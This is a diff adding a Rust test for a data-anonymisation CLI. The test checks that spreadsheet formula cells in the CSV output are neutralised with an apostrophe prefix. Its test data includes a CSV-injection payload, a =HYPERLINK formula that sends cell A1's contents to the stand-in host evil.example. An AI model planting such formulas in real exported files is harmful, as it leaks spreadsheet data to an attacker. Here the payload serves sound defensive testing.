@@ -322,3 +322,80 @@ fn synthesize_writes_new_rows_with_a_fidelity_and_privacy_report() {
     assert_eq!(out.status.code(), Some(2));
     assert!(stderr(&out).contains("bad.csv: line 3"), "{}", stderr(&out));
 }
+
+/// Cells an analyst's spreadsheet would run (`=HYPERLINK(...)`, `@SUM(...)`) come out as text
+/// from both tools unless the caller opts out loudly.
+#[test]
+fn formula_cells_are_neutralized_in_csv_outputs() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let mut csv = String::from("group,comment,score\n");
+    for i in 0..60u32 {
+        let comment = match i % 3 {
+            0 => "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"",
+            1 => "@SUM(A1:A9)",
+            _ => "fine",
+        };
+        let score = -f64::from(i * 7919 % 1000) / 10.0 - 0.25;
+        csv.push_str(&format!("g{},{comment},{score}\n", i % 2));
+    }
+    std::fs::write(d.join("in.csv"), csv).unwrap();
+    std::fs::write(
+        d.join("rules.toml"),
+        "[columns]\ngroup = \"keep\"\ncomment = \"keep\"\nscore = \"keep\"\n",
+    )
+    .unwrap();
+    let anonymize = |extra: &[&str]| {
+        let mut args = vec![
+            "data",
+            "anonymize",
+            "in.csv",
+            "out.csv",
+            "--rules",
+            "rules.toml",
+        ];
+        args.extend_from_slice(extra);
+        let out = palisade(d, &args);
+        assert!(out.status.success(), "{}", stderr(&out));
+        std::fs::read_to_string(d.join("out.csv")).unwrap()
+    };
+    let safe = anonymize(&[]);
+    assert!(
+        safe.contains("\"'=HYPERLINK(") && safe.contains("'@SUM(A1:A9)"),
+        "{safe}"
+    );
+    assert!(
+        !safe.contains(",=HYPERLINK") && !safe.contains(",@SUM"),
+        "{safe}"
+    );
+    assert!(
+        safe.contains(",-0.25\n"),
+        "plain negative numbers stay numbers: {safe}"
+    );
+    let kept = anonymize(&["--dangerous-keep-formulas"]);
+    assert!(kept.contains(",@SUM(A1:A9),"), "{kept}");
+
+    let out = palisade(
+        d,
+        &[
+            "data",
+            "synthesize",
+            "in.csv",
+            "syn.csv",
+            "--rows",
+            "50",
+            "--seed",
+            "1",
+            "--columns",
+            "comment,score",
+        ],
+    );
+    assert!(out.status.success(), "{}", stderr(&out));
+    let syn = std::fs::read_to_string(d.join("syn.csv")).unwrap();
+    assert!(syn.contains("'@SUM(A1:A9)"), "{syn}");
+    assert!(
+        !syn.lines()
+            .any(|l| l.starts_with('@') || l.starts_with('=')),
+        "{syn}"
+    );
+}
